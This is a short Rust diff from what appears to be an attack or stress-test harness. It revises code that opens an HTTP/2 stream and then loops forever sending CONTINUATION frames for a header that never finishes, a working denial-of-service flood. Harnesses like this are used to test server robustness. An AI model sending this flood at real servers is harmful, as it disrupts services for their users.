@@ -164,12 +164,10 @@ async fn one(attack: Attack, mut stream: Box<dyn Stream>) -> std::io::Result<()>
             stream.write_all(&frame(SETTINGS, 0, 0, &[])).await?;
             let request = frame(HEADERS, END_STREAM, 1, &get_metrics());
             stream.write_all(&request).await?;
-            let mut more = vec![0x00, 1, b'x', 127, 0x80, 0x7e];
-            more.extend([b'y'; 16_000]);
+            // A header whose value is announced to be long and never comes.
+            let more = frame(CONTINUATION, 0, 1, &[0x00, 1, b'x', 127, 0x80, 0x7e]);
             loop {
-                stream
-                    .write_all(&frame(CONTINUATION, 0, 1, &more[..6]))
-                    .await?;
+                stream.write_all(&more).await?;
                 stream.flush().await?;
             }
         }
